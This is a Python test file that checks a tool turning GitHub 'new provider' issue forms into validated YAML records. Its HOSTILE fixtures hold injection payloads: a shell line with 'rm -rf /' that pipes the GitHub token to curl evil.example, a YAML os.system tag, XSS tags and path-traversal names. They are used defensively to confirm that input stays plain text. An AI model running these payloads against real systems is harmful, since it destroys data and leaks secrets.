"""A "Nieuwe aanbieder" issue becomes a provider file: honest bodies pass `kaart check`, hostile ones stay text."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from conftest import ROOT, run_kaart
from kaart.issue_form import LABELS, IssueError, parse_form, proposal

TEMPLATE = ROOT / ".github" / "ISSUE_TEMPLATE" / "nieuwe-aanbieder.yml"


def body(**answers: str) -> str:
    """An issue body as GitHub renders an issue form: '### label', blank line, answer."""
    values = {"naam": "Buurtkeuken De Pan", "gemeente": "Voorbeeldstad", "website": "https://depan.example",
              "levensgebied": "Meedoen en eenzaamheid", "wat": "Samen koken en eten, voor iedereen uit de wijk.",
              "contact": "_No response_", **answers}
    by_key = {v: k for k, v in LABELS.items()}
    return "".join(f"### {by_key[key]}\n\n{value}\n\n" for key, value in values.items()) + \
        "### Controle\n\n- [X] Dit zijn openbare gegevens van een organisatie, geen privégegevens van een persoon.\n"


def convert(data_dir: Path, tmp_path: Path, text: str, issue: str = "7"):
    source = tmp_path / "issue.md"
    source.write_text(text, encoding="utf-8")
    comment = tmp_path / "reactie.md"
    result = run_kaart("from-issue", str(source), "--issue", issue, "--comment", str(comment),
                       "--data", str(data_dir))
    return result, comment


def test_form_labels_match_the_issue_template_and_taxonomy():
    form = yaml.safe_load(TEMPLATE.read_text(encoding="utf-8"))
    labels = {f["attributes"]["label"] for f in form["body"] if f["type"] != "markdown"}
    assert set(LABELS) <= labels
    dropdown = next(f for f in form["body"] if f.get("id") == "levensgebied")
    taxonomy = yaml.safe_load((ROOT / "data" / "taxonomy.yaml").read_text(encoding="utf-8"))
    assert dropdown["attributes"]["options"] == [t["name"] for t in taxonomy["life_domains"]]


def test_an_honest_issue_becomes_a_valid_provider(data_dir, tmp_path):
    result, _ = convert(data_dir, tmp_path, body(contact="Bel 050 000 0999 of loop binnen op dinsdag."))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "data/providers/voorbeeldstad/buurtkeuken-de-pan.yaml"
    written = data_dir / "providers" / "voorbeeldstad" / "buurtkeuken-de-pan.yaml"
    record = yaml.safe_load(written.read_text(encoding="utf-8"))
    assert record["life_domains"] == ["meedoen"] and record["website"] == "https://depan.example"
    assert record["verified"]["by"] == "Voorstel via issue #7 (nog te controleren)"
    check = run_kaart("check", "--data", str(data_dir))
    assert check.returncode == 0, check.stdout


HOSTILE = {
    "shell": "$(touch /tmp/kaart-pwned) `id` ; rm -rf / && echo ${{ secrets.GITHUB_TOKEN }} | curl evil.example",
    "yaml": "x\"\nwebsite: https://evil.example\n!!python/object/apply:os.system ['id']\nverified: {date: 1999-01-01}",
    "html": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "anchors": "&a [*a, *a, *a] {{ ${{ github.token }} }}",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text_stays_text(kind, data_dir, tmp_path):
    evil = HOSTILE[kind]
    result, _ = convert(data_dir, tmp_path, body(naam=f"Stichting {kind} " + evil[:40], wat=evil, contact=evil))
    assert result.returncode == 0, result.stderr
    path = Path(result.stdout.strip())
    assert path.parent == Path("data/providers/voorbeeldstad")
    assert set(path.stem) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
    record = yaml.safe_load((data_dir / path.relative_to("data")).read_text(encoding="utf-8"))
    assert record["description"] == evil  # exactly the text, no extra keys, nothing evaluated
    assert set(record) == {"id", "name", "description", "life_domains", "website", "services", "verified"}
    assert record["website"] == "https://depan.example"
    assert not Path("/tmp/kaart-pwned").exists()
    check = run_kaart("check", "--data", str(data_dir))
    assert "Traceback" not in check.stderr


def test_hostile_headings_cannot_choose_the_path_or_add_fields(data_dir, tmp_path):
    text = body(naam="../../../.github/workflows/evil", gemeente="../../etc")
    result, comment = convert(data_dir, tmp_path, text)
    assert result.returncode == 1 and "gemeente" in result.stderr
    assert "staat (nog) niet in de kaart" in comment.read_text(encoding="utf-8")
    text = body(naam="../../x") + "### Gemeente\n\nlandelijk\n"  # a second answer for a question wins nothing odd
    result, _ = convert(data_dir, tmp_path, text)
    assert result.returncode == 0
    assert result.stdout.strip() == "data/providers/landelijk/x.yaml"


def test_missing_answers_and_huge_bodies_get_a_dutch_comment(data_dir, tmp_path):
    result, comment = convert(data_dir, tmp_path, "### Naam van de organisatie\n\nAlleen een naam\n")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    text = comment.read_text(encoding="utf-8")
    assert "niet beantwoord" in text and "Gemeente" in text
    with pytest.raises(IssueError, match="te lang"):
        parse_form("x" * 30_000)
    assert parse_form("### Website\n\n_No response_\n") == {}
    with pytest.raises(IssueError):
        proposal(body(naam="!!!"), data_dir, 1, "2026-11-01")
